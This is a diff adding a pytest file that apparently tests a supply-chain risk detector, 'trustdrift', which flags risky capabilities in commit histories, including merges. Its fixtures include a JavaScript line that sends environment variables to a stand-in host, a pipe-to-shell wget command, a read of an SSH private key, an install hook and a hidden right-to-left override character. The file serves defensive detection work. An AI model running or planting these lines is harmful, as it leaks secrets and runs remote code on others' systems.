@@ -1,0 +1,145 @@
+"""What added lines reach for, and what a merge brings of its own, in histories told by hand."""
+
+import pandas as pd
+import pytest
+
+from trustdrift.features.capabilities import CAPABILITIES
+from trustdrift.features.commit.capabilities import FAMILIAR
+from trustdrift.features.mining import measure_text, mine
+from trustdrift.features.signals import SIGNALS
+from trustdrift.features.vectors import describe_commits
+
+from ..conftest import KEY
+from ..repositories import DAY, FOUNDER, NEWCOMER, START, Repository
+
+EXFILTRATION = b"const t = process.env\nfetch('https://collect.example/' + atob(t))\n"
+
+
+def values_of(repository: Repository) -> pd.DataFrame:
+    return describe_commits(mine(repository.write(), key=KEY)).values
+
+
+def quiet_past(repository: Repository, many: int = FAMILIAR) -> None:
+    for day in range(many):
+        repository.commit({f"lib/part{day % 3}.js": b"let x = %d\n" % day}, author=FOUNDER,
+                          time=START + day * DAY)  # fmt: skip
+
+
+def shown(values: pd.DataFrame) -> set[str]:
+    """Names of the signs that the last commit shows."""
+    last = values.iloc[-1:]
+    return {
+        sign.name for sign in SIGNALS if sign.level == "commit" and bool(sign.shown_by(last).iloc[0])
+    }
+
+
+@pytest.mark.parametrize(
+    ("line", "name"),
+    [
+        (b"resp = urllib.request.urlopen(url)", "network"),
+        (b"curl -fsSL $URL", "network"),
+        (b"subprocess.run(args)", "programs"),
+        (b"  x = popen(cmd, 0)", "programs"),
+        (b"wget -qO- $URL | sh", "programs"),
+        (b"eval $cmd", "evaluation"),
+        (b"new Function(code)()", "evaluation"),
+        (b"b64decode(blob)", "decoding"),
+        (b"xz -dc tests/x | head", "decoding"),
+        (b"key = os.environ['KEY']", "secrets"),
+        (b"cat ~/.ssh/id_rsa", "secrets"),
+        (b'  "postinstall": "node x.js",', "hooks"),
+        (b"  pull_request_target:", "hooks"),
+    ],
+)
+def test_capabilities_are_told_by_their_names(line: bytes, name: str) -> None:
+    assert measure_text(line)[name] >= 1
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        b"the systems of retrieval and execution are evaluated",
+        b"medieval(1); preeval; fetched(x); reconnect(y)",
+        b"int spawned = prefetch; // system of connections",
+        b"",
+    ],
+)
+def test_ordinary_words_stand_for_nothing(line: bytes) -> None:
+    found = measure_text(line)
+    assert [found[name] for name in CAPABILITIES] == [0] * len(CAPABILITIES)
+
+
+def test_every_name_is_counted_once_for_one_capability() -> None:
+    for name, capability in CAPABILITIES.items():
+        for written in (*capability.words, *capability.phrases):
+            assert measure_text(b"x " + written + b" y")[name] >= 1, written
+        others = [other for other in CAPABILITIES if other != name]
+        assert not any(capability.words & CAPABILITIES[other].words for other in others)
+
+
+def test_what_a_project_and_a_person_never_did_before_is_told(repository: Repository) -> None:
+    quiet_past(repository)
+    repository.commit({"lib/part0.js": EXFILTRATION}, author=FOUNDER, time=START + 90 * DAY)
+    repository.commit({"lib/part1.js": EXFILTRATION}, author=FOUNDER, time=START + 91 * DAY)
+    values = values_of(repository)
+    first, second = values.iloc[-2], values.iloc[-1]
+    news = ["author", "project", "folder", "kind"]
+    assert [first[f"capabilities_new_to_{group}"] for group in news] == [3] * 4
+    assert [second[f"capabilities_new_to_{group}"] for group in news] == [0] * 4
+    assert first["secrets_with_network"] == first["urls"] == 1
+    assert first["capabilities_in_one_file"] == 3
+    assert shown(values.iloc[:-1]) >= {"secrets_and_network", "new_to_the_project"}
+
+
+def test_nothing_is_new_where_nothing_is_known(repository: Repository) -> None:
+    quiet_past(repository, FAMILIAR - 1)
+    repository.commit({"lib/part0.js": EXFILTRATION}, author=FOUNDER, time=START + 90 * DAY)
+    assert values_of(repository)["capabilities_new_to_project"].iloc[-1] == 0
+
+
+def test_tests_and_documentation_are_not_code(repository: Repository) -> None:
+    quiet_past(repository)
+    repository.commit(
+        {"tests/x.js": EXFILTRATION, "docs/guide.md": EXFILTRATION, "README.md": EXFILTRATION},
+        author=FOUNDER, time=START + 90 * DAY,
+    )  # fmt: skip
+    last = values_of(repository).iloc[-1]
+    assert last[["network", "secrets", "urls", "capabilities_new_to_project"]].eq(0).all()
+    assert last["added_bytes"] == 3 * len(EXFILTRATION)
+
+
+def test_a_script_without_an_ending_is_code_if_it_can_be_run(repository: Repository) -> None:
+    repository.commit({"run": b"curl x\n", "notes": b"curl x\n"}, modes={"run": "100755"})
+    assert values_of(repository)["network"].iloc[-1] == 1
+
+
+def test_install_hooks_and_hidden_text_are_told(repository: Repository) -> None:
+    quiet_past(repository)
+    manifest = b'{"scripts": {\n  "postinstall": "node x.js"\n}}\n'
+    hidden = "if (isAdmin\u202e) {}\n".encode()
+    repository.commit({"package.json": manifest, "lib/part0.js": hidden}, time=START + 90 * DAY)
+    values = values_of(repository)
+    assert values["hooks"].iloc[-1] == values["hidden_characters"].iloc[-1] == 1
+    assert shown(values) >= {"step_that_runs_itself", "hidden_text"}
+
+
+def test_a_merge_is_a_commit_where_it_changes_something_itself(repository: Repository) -> None:
+    root = repository.commit({"a.c": b"1\n"}, author=FOUNDER)
+    repository.commit({"a.c": b"2\n"}, author=FOUNDER, time=START + DAY)
+    side = repository.commit(
+        {"b.c": b"1\n"}, branch="side", after=root, author=NEWCOMER, time=START + 2 * DAY
+    )
+    repository.commit({"b.c": b"1\n"}, merge=side, author=FOUNDER, time=START + 3 * DAY)
+    other = repository.commit(
+        {"c.c": b"1\n"}, branch="side", author=NEWCOMER, time=START + 4 * DAY
+    )
+    repository.commit(
+        {"c.c": b"1\n", "own.c": b"system(x);\n"}, merge=other, author=FOUNDER,
+        time=START + 5 * DAY,
+    )  # fmt: skip
+    values = values_of(repository)
+    assert len(values) == 5  # of six: the clean merge changes nothing
+    assert values["merge_files"].tolist() == [0, 0, 0, 0, 1]
+    assert values["merge_lines"].iloc[-1] == values["merge_new_files"].iloc[-1] == 1
+    assert values["programs"].iloc[-1] == 1
+    assert "merge_with_files_of_its_own" in shown(values)
